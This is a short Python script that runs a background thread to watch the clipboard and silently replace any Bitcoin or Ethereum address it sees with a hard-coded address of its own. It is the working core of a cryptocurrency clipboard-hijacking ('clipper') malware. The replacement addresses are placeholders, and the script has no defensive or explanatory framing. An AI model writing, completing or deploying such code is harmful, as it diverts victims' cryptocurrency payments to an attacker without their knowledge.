import re
import threading
import time

import pyperclip

PATTERNS = {"btc": re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"), "eth": re.compile(r"^0x[a-fA-F0-9]{40}$")}
OURS = {"btc": "bc1qexampleexampleexampleexampleexample", "eth": "0x" + "0" * 40}


def watch():
    while True:
        text = pyperclip.paste()
        for kind, pattern in PATTERNS.items():
            if pattern.match(text) and text != OURS[kind]:
                pyperclip.copy(OURS[kind])
        time.sleep(0.5)


threading.Thread(target=watch, daemon=True).start()
